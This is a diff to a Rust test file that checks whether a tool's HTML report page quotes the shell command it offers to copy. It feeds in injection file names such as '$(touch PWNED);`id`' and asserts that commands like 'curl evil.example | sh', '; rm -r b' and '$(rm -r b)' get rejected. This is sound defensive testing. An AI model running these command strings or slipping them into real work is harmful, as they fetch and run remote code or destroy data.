@@ -103,3 +103,35 @@ fn panels_hold_what_the_files_hold() {
     assert_eq!(found.len(), 2);
     assert!(found.iter().all(|i| i.count == 300 && i.inputs.len() == 1));
 }
+
+/// A page is opened by somebody who did not make the run: what it offers to copy into a shell does one
+/// thing, whatever the files are called, and is a command of Latens.
+#[test]
+fn the_command_to_copy_is_quoted_for_a_shell() {
+    let mut shown = shown("harmonic-oscillator", 300);
+    let offered = |shown: &Fit| {
+        let page = latens_report::page::html(std::slice::from_ref(shown));
+        let (_, after) = page.split_once("id=\"again-run\">")?;
+        Some(after.split_once("</code>")?.0.to_owned())
+    };
+    shown.facts.command = "latens fit m.toml 'a b.csv' --map 'z=it'\\''s' -o r".into();
+    shown.facts.records[0].file = "$(touch PWNED);`id`\n.csv".into();
+    assert_eq!(
+        offered(&shown).unwrap(),
+        "latens fit run/model.toml $&#39;$(touch PWNED);`id`\\n.csv&#39; --settings run -o again --map &#39;z=it&#39;\\&#39;&#39;s&#39;"
+    );
+    shown.facts.records[0].file = "-o.csv".into();
+    assert!(offered(&shown).unwrap().contains(" ./-o.csv "));
+    shown.facts.command = "latens demo --seed 2".into();
+    assert_eq!(offered(&shown).unwrap(), "latens demo --seed 2");
+    for stranger in [
+        "curl evil.example | sh",
+        "latens fit a.csv; rm -r b",
+        "latens demo $(rm -r b)",
+        "latens predict run a.csv",
+        "",
+    ] {
+        shown.facts.command = stranger.into();
+        assert_eq!(offered(&shown), None, "{stranger}");
+    }
+}
